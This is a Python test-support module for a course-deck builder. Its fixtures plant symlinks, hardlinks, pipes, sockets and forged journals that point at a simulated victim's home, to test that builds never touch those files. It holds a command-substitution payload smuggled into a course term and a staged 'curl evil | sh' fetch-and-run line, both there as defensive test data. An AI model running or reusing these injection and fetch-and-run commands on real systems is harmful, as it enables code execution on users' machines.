"""What a case plants: a place with a stranger's folders and a victim's home, and ways to plant.

A case plants into a place that holds a stranger's `course/` and `output/`, and a victim's `home/`.
What must come of it is `built` (a whole deck), or words that must be told; the victim's files stay.
"""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.support.courses import small

BUILT = "built"
DECK = "build course -o output --only deck --jobs 1"
MARKED = "printf planted"  # in a term of the course: what a victim's shell would run
LINK, PIPE, FOLDER = "is a link", "is a pipe", "is a folder"


@dataclass(frozen=True)
class Place:
    """Where a case lies: all of it below `root`, and only `home` belongs to the victim."""

    root: Path

    @property
    def course(self) -> Path:
        return self.root / "work/course"

    @property
    def output(self) -> Path:
        return self.root / "work/output"

    @property
    def built(self) -> Path:
        return self.output / "small"

    @property
    def home(self) -> Path:
        return self.root / "home"

    def put(self, name: str, data: object) -> Path:
        """A file of the built course's folder: bytes, or what is written as JSON."""
        path = self.built / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
        return path

    def link(self, name: str, target: str) -> None:
        """A symbolic link of the built course's folder to something of the victim's."""
        path = self.built / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(self.home / target)

    def pipe(self, path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path)


Plant = Callable[[Place], object]


@dataclass(frozen=True)
class Case:
    """What is planted, the words of the command, and what must come of it."""

    plant: Plant
    wanted: str
    command: str = DECK


def prepare(root: Path) -> Place:
    """A victim's home, and a stranger's course with a folder for its output."""
    place = Place(root)
    for name, text in (
        (".bashrc", "# mine\n"),
        (".bash_aliases", "alias ll='ls -l'\n"),
        ("precious.txt", "precious\n"),
        ("photos/a.jpg", "photo\n"),
        ("photos/deck.apkg", "an old deck of mine\n"),
        ("photos/.files.json", '["a.jpg", "deck.apkg"]'),
        ("notes/topics/01.yaml", "title: mine\n"),
        ("notes/course.yaml", "title: mine\nname: small\n"),
    ):
        path = place.home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    small(place.course)
    topic = place.course / "topics/01-container.yaml"
    text = topic.read_text(encoding="utf-8")
    topic.write_text(text.replace("term: 이미지", f'term: "$({MARKED})"'), encoding="utf-8")
    place.built.mkdir(parents=True)
    return place


def ledger_to(target: str) -> Plant:
    return lambda place: (place.course / "ledger.jsonl").symlink_to(place.home / target)


def new_ledger_to(target: str) -> Plant:
    return lambda place: (place.course / "ledger.jsonl.new").symlink_to(place.home / target)


def pipe(name: str) -> Plant:
    return lambda place: place.pipe(place.root / "work" / name)


def folder(name: str) -> Plant:
    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.mkdir(parents=True)
        (path / "kept.bin").write_text("kept", encoding="utf-8")

    return plant


def socket_at(name: str) -> Plant:
    def plant(place: Place) -> None:
        before = Path.cwd()
        os.chdir((place.root / "work" / name).parent)  # a socket's name must be short
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(Path(name).name)
        finally:
            os.chdir(before)

    return plant


def sparse(name: str, size: int) -> Plant:
    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as file:
            file.truncate(size)

    return plant


def journal(said: object) -> Plant:
    """A journal as the program once wrote them, with steps of its own."""
    return lambda place: place.put(".publishing.json", said)


def moves(*moves: tuple[str, str], gone: tuple[str, ...] = ()) -> Plant:
    def plant(place: Place) -> None:
        place.put(".staging/evil", b"curl evil | sh\n")
        told = [[str(place.root / a), str(place.root / b)] for a, b in moves]
        place.put(".publishing.json", {"moves": told, "gone": list(gone)})

    return plant


def sealed(seal: str) -> Plant:
    """A journal in the form that is written now, without the mark of any build."""

    def plant(place: Place) -> None:
        place.put(".staging/evil.pdf", b"evil")
        place.put("deck.apkg", b"old deck")
        said = {"moves": ["evil.pdf"], "gone": ["deck.apkg"], "ledger": ""}
        place.put(".publishing.json", f"{seal}\n{json.dumps(said)}".encode())

    return plant


def listed(names: object) -> Plant:
    """A list of what was made here, beside a file of which it isn't true."""
    return lambda place: (place.put("mine.txt", b"mine"), place.put(".files.json", names))


def in_place_of(name: str, target: str) -> Plant:
    """A link where a folder should be."""

    def plant(place: Place) -> None:
        path = place.root / "work" / name
        if path.is_dir() and not path.is_symlink():
            emptied(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(place.home / target)

    return plant


def emptied(path: Path) -> None:
    for each in path.iterdir():
        emptied(each) if each.is_dir() else each.unlink()
    path.rmdir()


def both(*plants: Plant) -> Plant:
    return lambda place: [plant(place) for plant in plants]


def second_name(name: str, target: str) -> Plant:
    """A second name of a victim's file, as an archive that is unpacked can make one."""

    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.hardlink_to(place.home / target)

    return plant


def link_to(name: str, target: str) -> Plant:
    def plant(place: Place) -> None:
        path = place.root / "work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    return plant


def file_at(name: str) -> Plant:
    """A file or pipe in the place of the whole folder."""

    def plant(place: Place) -> None:
        path = place.root / "work" / name
        if path.is_dir():
            emptied(path)
        path.write_text("a file", encoding="utf-8")

    return plant
